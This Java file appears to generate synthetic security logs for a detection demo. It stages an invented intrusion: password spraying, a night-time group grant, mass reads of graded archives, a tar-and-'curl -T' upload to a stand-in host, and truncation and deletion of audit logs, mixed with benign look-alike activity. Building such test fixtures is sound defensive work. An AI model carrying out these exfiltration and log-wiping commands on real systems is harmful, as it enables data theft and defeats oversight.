package org.watchfire.deploy.demo;

import java.time.Instant;
import java.time.LocalDate;
import java.time.ZoneId;
import java.util.List;
import java.util.Map;

/**
 * The story: a clerk's password is guessed in the morning; at night the account is given rights,
 * reads graded archives, is refused the core ones, carries an archive out, and an administrator's
 * account clears the log. All names, addresses and files are invented.
 */
final class FridayStory {
  static final String INTRUDER = "10.20.9.77";
  static final String SCANNER = "198.51.100.23";
  private static final String RESTRICTED = "/srv/share/档案/受限/";
  private static final String CORE = "/srv/share/档案/核心/";
  private static final List<String> GUESSED =
      List.of(
          "zhao.lei",
          "chen.jing",
          "liu.yang",
          "sun.mei",
          "zhou.tao",
          "wu.xia",
          "xu.dan",
          "ma.chao",
          "hu.bin",
          "guo.lin",
          "he.ping",
          "luo.jun",
          "tang.yu",
          "deng.ke",
          "zhang.min",
          "archive",
          "li.na");

  private final LogFormats log;
  private final LocalDate day;
  private final ZoneId zone;

  FridayStory(LogFormats log, LocalDate day, ZoneId zone) {
    this.log = log;
    this.day = day;
    this.zone = zone;
  }

  /** People of the story as the security administrator enters them. */
  static Map<String, Map<String, Object>> people() {
    return Map.of(
        "p-li-na", person("李娜 Li Na", List.of("li.na"), "archive-office", 2, List.of(), false),
        "p-wang-wei", person("王伟 Wang Wei", List.of("wang.wei"), "it", 2, List.of(), true),
        "p-zhang-min", person("张敏 Zhang Min", List.of("zhang.min"), "it", 2, List.of(), true),
        "p-zhao-min",
            person(
                "赵民 Zhao Min", List.of("zhao.min"), "audit-office", 6, List.of("archive"), false),
        "p-backup",
            person(
                "备份服务 Backup service", List.of("svc-backup"), "it", 6, List.of("archive"), false));
  }

  /** Assets of the story. */
  static Map<String, Map<String, Object>> assets() {
    return Map.of(
        "archive-restricted", asset("档案（受限） Restricted archive", "path:" + RESTRICTED + "**", 4),
        "archive-core", asset("档案（核心） Core archive", "path:" + CORE + "**", 6),
        "public-share",
            Map.of(
                "name",
                "公共资料 Public share",
                "kind",
                "share",
                "selectors",
                List.of("path:/srv/share/公共/**"),
                "level",
                1,
                "compartments",
                List.of(),
                "departments",
                List.of()));
  }

  private static Map<String, Object> person(
      String name,
      List<String> accounts,
      String department,
      int clearance,
      List<String> compartments,
      boolean admin) {
    return Map.of(
        "name", name,
        "accounts", accounts,
        "department", department,
        "clearance", clearance,
        "compartments", compartments,
        "status", "active",
        "admin", admin);
  }

  private static Map<String, Object> asset(String name, String selector, int level) {
    return Map.of(
        "name",
        name,
        "kind",
        "path",
        "selectors",
        List.of(selector),
        "level",
        level,
        "compartments",
        List.of("archive"),
        "departments",
        List.of());
  }

  private Instant at(int hour, int minute, int second) {
    return day.atTime(hour, minute, second).atZone(zone).toInstant();
  }

  void write() {
    backupJob();
    passwordSpraying();
    duplicateStorm();
    auditorsReview();
    nightLogon();
    rightsGranted();
    massRead();
    deniedAboveClearance();
    archiveAndUpload();
    logCleared();
  }

  /** Look-alike 1: reads more graded files than the thief will, and may. Nothing must fire. */
  private void backupJob() {
    for (int i = 0; i < 400; i++) {
      log.samba(
          at(2, 0, 0).plusMillis(i * 1500L),
          "svc-backup",
          "10.20.5.30",
          "archive",
          "openat",
          true,
          "r|" + RESTRICTED + "卷宗-" + i + ".pdf");
    }
  }

  /** Step 1: one address, one guess for each of many accounts, then one that fits. */
  private void passwordSpraying() {
    for (int i = 0; i < GUESSED.size(); i++) {
      log.sshFailed(at(8, 55, 0).plusSeconds(i * 7L), "oa-web01", GUESSED.get(i), INTRUDER);
    }
    log.sshAccepted(at(8, 58, 10), "oa-web01", "password", "li.na", INTRUDER);
    log.sshClosed(at(8, 59, 40), "oa-web01", "li.na");
  }

  /** The storm: six hundred requests of one scanner are one alert with a count. */
  private void duplicateStorm() {
    for (int i = 0; i < 600; i++) {
      log.access(
          at(14, 0, 0).plusMillis(i * 400L),
          SCANNER,
          "-",
          "GET",
          "/backup-" + i + ".zip",
          404,
          153,
          "sqlmap/1.8.4#stable (https://sqlmap.org)");
    }
  }

  /**
   * Look-alike 2: an auditor's review of graded files, in working hours and within clearance. It is
   * an alert of medium severity that an analyst closes as benign.
   */
  private void auditorsReview() {
    for (int i = 0; i < 320; i++) {
      log.samba(
          at(15, 0, 0).plusMillis(i * 2500L),
          "zhao.min",
          "10.20.4.21",
          "archive",
          "openat",
          true,
          "r|" + RESTRICTED + "卷宗-" + i + ".pdf");
    }
  }

  /** Step 2: the clerk's account opens a shell on the file server late at night. */
  private void nightLogon() {
    log.sshAccepted(at(22, 41, 12), "fs01", "password", "li.na", INTRUDER);
    log.sshAccepted(at(22, 42, 3), "fs01", "password", "wang.wei", INTRUDER);
  }

  /** Step 3: an administrator's account puts her into the archive's group, at night. */
  private void rightsGranted() {
    Instant at = at(22, 43, 20);
    log.syslog(
        at,
        LogFormats.SSHD,
        "fs01",
        "sudo",
        0,
        "wang.wei : TTY=pts/1 ; PWD=/home/wang.wei ; USER=root ;"
            + " COMMAND=/usr/sbin/usermod -aG archive-restricted li.na");
    int pid = log.nextPid();
    log.syslog(
        at, LogFormats.SSHD, "fs01", "usermod", pid, "add 'li.na' to group 'archive-restricted'");
    log.syslog(
        at,
        LogFormats.SSHD,
        "fs01",
        "usermod",
        pid,
        "add 'li.na' to shadow group 'archive-restricted'");
  }

  /** Step 4: 340 graded files in twelve minutes, two levels above her clearance. */
  private void massRead() {
    for (int i = 0; i < 340; i++) {
      log.samba(
          at(22, 45, 0).plusMillis(i * 2100L),
          "li.na",
          INTRUDER,
          "archive",
          "openat",
          true,
          "r|" + RESTRICTED + "卷宗-" + i + ".pdf");
    }
  }

  /** Step 5: three attempts on the core archive, refused by the server. */
  private void deniedAboveClearance() {
    for (int i = 0; i < 3; i++) {
      log.samba(
          at(22, 58, 0).plusSeconds(i * 20L),
          "li.na",
          INTRUDER,
          "archive",
          "openat",
          false,
          "r|" + CORE + "名册-" + i + ".xlsx");
    }
  }

  /** Step 6: packed and carried out. */
  private void archiveAndUpload() {
    log.command(
        at(23, 5, 0),
        "fs01",
        "li.na",
        1021,
        "/usr/bin/tar",
        2990,
        "tar",
        "czf",
        "/var/tmp/p.tgz",
        "/srv/share/档案/受限");
    log.command(
        at(23, 6, 30),
        "fs01",
        "li.na",
        1021,
        "/usr/bin/curl",
        2990,
        "curl",
        "-T",
        "/var/tmp/p.tgz",
        "https://files.transfer.example.net/in/");
    log.conn(at(23, 6, 31), "10.20.5.20", "203.0.113.80", 443, 187_334_120, 4_210);
  }

  /** Step 7: the traces on the server are removed. */
  private void logCleared() {
    log.command(
        at(23, 12, 0),
        "fs01",
        "wang.wei",
        0,
        "/usr/bin/truncate",
        3010,
        "truncate",
        "-s",
        "0",
        "/var/log/audit/audit.log");
    log.fileChange(
        at(23, 12, 5),
        "fs01",
        "wang.wei",
        1001,
        "/usr/bin/rm",
        263,
        "unlinkat",
        "/var/log/secure",
        "DELETE");
  }
}
